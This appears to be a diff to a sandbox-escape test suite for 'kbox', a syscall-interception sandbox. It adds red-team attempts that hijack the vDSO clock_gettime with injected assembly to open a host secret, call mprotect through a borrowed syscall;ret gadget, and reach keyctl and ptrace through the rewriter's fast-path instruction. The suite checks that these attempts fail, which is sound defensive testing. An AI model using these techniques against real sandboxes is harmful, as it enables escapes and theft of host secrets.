@@ -23,6 +23,9 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <elf.h>
+#include <sys/auxv.h>
+#include <sys/mman.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -830,6 +833,237 @@ static int a_syscall_gadget(char *d)
 	return addf(d, "%d syscall;ret sequences tried, last error %s", tried, tried ? en(last_err) : "-"), 0;
 }
 
+/*
+ * Take over kbox's own threads (in-process tiers): the guest shares kbox's
+ * address space, so it can rewrite code that kbox's other threads run. Here
+ * the vDSO's __vdso_clock_gettime, which every Go thread calls (sysmon
+ * several times per millisecond), is made to jump to hijack_code below: on
+ * whatever thread runs it, that code opens the host secret and, if it can,
+ * creates HOSTDIR/PWNED; then it does the real clock_gettime. The code
+ * injection itself succeeds (the guest owns that memory); what must hold is
+ * that no thread of the process can reach the host: the kernel confines
+ * every thread of it (Landlock, the in-process filter), not only the
+ * guest's. The test harness checks that HOSTDIR/PWNED does not exist.
+ *
+ * The vDSO is made writable with mprotect through a `syscall; ret` of
+ * kbox's (kbox refuses the guest's own mprotect of its mappings); the
+ * write to /proc/self/mem is tried first and must be refused in-process.
+ */
+static char g_marker_path[1100];
+static volatile long g_hijack_runs, g_hijack_opened;
+
+extern char hijack_code[];
+__asm__(".text\n"
+	".globl hijack_code\n"
+	"hijack_code:\n"
+	"	lock incq g_hijack_runs(%rip)\n"
+	"	push %rdi\n"
+	"	push %rsi\n"
+	"	push $257\n" /* openat; push/pop: no `mov $nr,%eax; syscall` for the rewriter */
+	"	pop %rax\n"
+	"	mov $-100, %rdi\n"
+	"	lea g_secret_path(%rip), %rsi\n"
+	"	xor %edx, %edx\n"
+	"	syscall\n"
+	"	test %rax, %rax\n"
+	"	js 1f\n"
+	"	lock incq g_hijack_opened(%rip)\n"
+	"	mov %rax, %rdi\n"
+	"	push $3\n" /* close */
+	"	pop %rax\n"
+	"	syscall\n"
+	"	push $257\n"
+	"	pop %rax\n"
+	"	mov $-100, %rdi\n"
+	"	lea g_marker_path(%rip), %rsi\n"
+	"	mov $0x41, %edx\n" /* O_WRONLY|O_CREAT */
+	"	mov $0644, %r10d\n"
+	"	syscall\n"
+	"	test %rax, %rax\n"
+	"	js 1f\n"
+	"	mov %rax, %rdi\n"
+	"	push $3\n"
+	"	pop %rax\n"
+	"	syscall\n"
+	"1:	pop %rsi\n"
+	"	pop %rdi\n"
+	"	push $228\n" /* clock_gettime */
+	"	pop %rax\n"
+	"	syscall\n"
+	"	ret\n");
+
+/* The address of a symbol in the vDSO (section headers are part of the
+ * image), or NULL. */
+static unsigned char *vdso_sym(const char *name)
+{
+	unsigned char *base = (unsigned char *)getauxval(AT_SYSINFO_EHDR);
+	Elf64_Ehdr *eh = (Elf64_Ehdr *)base;
+	Elf64_Shdr *sh;
+	if (!base || memcmp(eh->e_ident, ELFMAG, SELFMAG) != 0 || eh->e_shoff == 0)
+		return NULL;
+	sh = (Elf64_Shdr *)(base + eh->e_shoff);
+	for (int i = 0; i < eh->e_shnum; i++) {
+		if (sh[i].sh_type != SHT_DYNSYM || sh[i].sh_link >= eh->e_shnum)
+			continue;
+		Elf64_Sym *sym = (Elf64_Sym *)(base + sh[i].sh_offset);
+		const char *str = (const char *)(base + sh[sh[i].sh_link].sh_offset);
+		for (size_t k = 0; k < sh[i].sh_size / sizeof *sym; k++)
+			if (sym[k].st_name && strcmp(str + sym[k].st_name, name) == 0 && sym[k].st_value)
+				return base + sym[k].st_value;
+	}
+	return NULL;
+}
+
+static int a_hijack_kbox_threads(char *d)
+{
+	const char *mode = getenv("KBOX_SYSCALL_MODE");
+	int inproc = mode && (strcmp(mode, "trap") == 0 || strcmp(mode, "rewrite") == 0);
+	unsigned char *fn = vdso_sym("__vdso_clock_gettime");
+	const unsigned char *g = foreign_gadget();
+	unsigned char stub[12], saved[12];
+	unsigned long page;
+	int memfd, esc = 0;
+	long r;
+	if (!inproc)
+		return addf(d, "not in-process: the guest's vDSO is its own process's"), 0;
+	if (!fn)
+		return addf(d, "no vDSO clock_gettime"), 0;
+	snprintf(g_marker_path, sizeof g_marker_path, "%s/PWNED", g_host);
+	/* /proc/self/mem opened for writing: kbox's memory in-process */
+	memfd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
+	if (memfd >= 0) {
+		close(memfd);
+		if (inproc)
+			return addf(d, "open(/proc/self/mem, O_RDWR) succeeded in-process"), 1;
+	}
+	if (!g)
+		return addf(d, "/proc/self/mem: %s; no foreign syscall;ret to mprotect with", memfd < 0 ? en(errno) : "ok"), 0;
+	page = (unsigned long)fn & ~4095UL;
+	r = gadget_call(g, SYS_mprotect, (long)page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC);
+	if (r != 0)
+		return addf(d, "mprotect(vDSO) through %p: %s", (const void *)g, en((int)-r)), 0;
+	/* movabs $hijack_code, %rax; jmp *%rax; installed so that a thread
+	 * entering meanwhile spins on `jmp .` instead of running half a stub */
+	stub[0] = 0x48;
+	stub[1] = 0xb8;
+	uint64_t target = (uint64_t)(uintptr_t)hijack_code;
+	memcpy(stub + 2, &target, 8);
+	stub[10] = 0xff;
+	stub[11] = 0xe0;
+	memcpy(saved, fn, sizeof saved);
+	__atomic_store_n((uint16_t *)fn, 0xfeeb, __ATOMIC_SEQ_CST);
+	memcpy(fn + 2, stub + 2, sizeof stub - 2);
+	__atomic_store_n((uint16_t *)fn, *(uint16_t *)stub, __ATOMIC_SEQ_CST);
+	/* spin without syscalls: kbox's threads keep reading the clock */
+	for (volatile unsigned long i = 0; i < 1500000000UL && g_hijack_runs < 2000; i++)
+		;
+	__atomic_store_n((uint16_t *)fn, 0xfeeb, __ATOMIC_SEQ_CST);
+	memcpy(fn + 2, saved + 2, sizeof saved - 2);
+	__atomic_store_n((uint16_t *)fn, *(uint16_t *)saved, __ATOMIC_SEQ_CST);
+	gadget_call(g, SYS_mprotect, (long)page, 8192, PROT_READ | PROT_EXEC);
+	if (g_hijack_opened > 0)
+		esc = 1;
+	return addf(d, "injected code ran %ld times on threads of this process, opened the host secret %ld times",
+		    g_hijack_runs, g_hijack_opened), esc;
+}
+
+/* /proc/self/fd/N of a pipe must reopen that pipe: in-process, N is a
+ * virtual number and kbox's own descriptor N is something else (kbox's
+ * mount roots, pidfds, its /proc/<pid>/fd directory). */
+static int a_proc_fd_identity(char *d)
+{
+	int p[2], fd, esc = 0;
+	char path[64], c = 0;
+	struct stat a, b;
+	if (pipe(p) != 0)
+		return addf(d, "pipe: %s", en(errno)), 0;
+	/* a spare descriptor so that the pipe's numbers are not kbox's stdio */
+	snprintf(path, sizeof path, "/proc/self/fd/%d", p[1]);
+	fd = open(path, O_WRONLY | O_CLOEXEC);
+	if (fd < 0) {
+		addf(d, "open(%s): %s", path, en(errno));
+	} else if (fstat(fd, &a) != 0 || fstat(p[1], &b) != 0 || a.st_ino != b.st_ino || a.st_dev != b.st_dev) {
+		addf(d, "open(%s) reopened another object (inode %lu, want %lu)", path, (unsigned long)a.st_ino,
+		     (unsigned long)b.st_ino);
+		esc = 1;
+	} else if (write(fd, "k", 1) != 1 || read(p[0], &c, 1) != 1 || c != 'k') {
+		addf(d, "the reopened pipe does not carry data to the original");
+		esc = 1;
+	} else {
+		addf(d, "open(%s) reopened the same pipe", path);
+	}
+	if (fd >= 0)
+		close(fd);
+	close(p[0]);
+	close(p[1]);
+	return esc;
+}
+
+/*
+ * Enter the rewrite tier's fast path at its syscall instruction with a
+ * number of the guest's choosing (the red team found it by its bytes,
+ * `lea -1(%r11),%rdi; syscall`): the interception filter allows that
+ * address first thing, so it must allow only the fast path's own numbers.
+ * PTRACE_TRACEME through it made kbox's parent the tracer of the guest
+ * thread (its wait then hung forever); keyctl reached the user's keyrings.
+ */
+static const unsigned char *fastpath_gadget(void)
+{
+	static const unsigned char sig[] = { 0x49, 0x8d, 0x7b, 0xff, 0x0f, 0x05 };
+	FILE *maps = fopen("/proc/self/maps", "r");
+	char line[512];
+	const unsigned char *found = NULL;
+	if (!maps)
+		return NULL;
+	while (!found && fgets(line, sizeof line, maps)) {
+		unsigned long lo, hi;
+		char perms[8];
+		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r' || perms[2] != 'x' ||
+		    strstr(line, "[vsyscall]") || strstr(line, "[vdso]"))
+			continue;
+		for (unsigned long p = lo; p + sizeof sig <= hi; p++)
+			if (memcmp((const void *)p, sig, sizeof sig) == 0) {
+				found = (const unsigned char *)p;
+				break;
+			}
+	}
+	fclose(maps);
+	return found;
+}
+
+/* Calls the fast path's tail as the trampolines do: it returns through
+ * the rcx and rdi it pops from the stack (red zone skipped), and takes
+ * its first argument as r11 - 1. */
+static long fastpath_call(const unsigned char *g, long nr, long a, long b, long c)
+{
+	long ret;
+	__asm__ volatile("lea -128(%%rsp), %%rsp\n\t"
+			 "lea 1f(%%rip), %%rcx\n\t"
+			 "push %%rcx\n\t"
+			 "push %%rdi\n\t"
+			 "lea 1(%%rdi), %%r11\n\t"
+			 "jmp *%[g]\n"
+			 "1:\n\t"
+			 : "=a"(ret), "+D"(a), "+S"(b), "+d"(c)
+			 : [g] "r"(g), "a"(nr)
+			 : "rcx", "r8", "r9", "r10", "r11", "memory", "cc");
+	return ret;
+}
+
+static int a_fastpath_any_nr(char *d)
+{
+	const unsigned char *g = fastpath_gadget();
+	long r1, r2;
+	if (!g)
+		return addf(d, "no fast-path syscall in the process (not the rewrite tier's process)"), 0;
+	r1 = fastpath_call(g, SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0);
+	r2 = fastpath_call(g, SYS_ptrace, 0 /* PTRACE_TRACEME */, 0, 0);
+	if (r1 >= 0 || r2 == 0)
+		return addf(d, "through the fast path at %p: keyctl %ld, ptrace(TRACEME) %ld", (const void *)g, r1, r2), 1;
+	return addf(d, "through the fast path at %p: keyctl %s, ptrace(TRACEME) %s", (const void *)g, en((int)-r1),
+		    en((int)-r2)), 0;
+}
+
 static const struct {
 	const char *name;
 	attempt_fn fn;
@@ -838,6 +1072,9 @@ static const struct {
 	 * and a later one may chroot it */
 	{ "syscall_gadget", a_syscall_gadget },
 	{ "signal_gadget", a_signal_gadget },
+	{ "hijack_kbox_threads", a_hijack_kbox_threads },
+	{ "fastpath_any_nr", a_fastpath_any_nr },
+	{ "proc_fd_identity", a_proc_fd_identity },
 	{ "dotdot_abs", a_dotdot_abs },
 	{ "dotdot_rel_root", a_dotdot_rel_root },
 	{ "dotdot_rel_tmp_deep", a_dotdot_rel_tmp_deep },
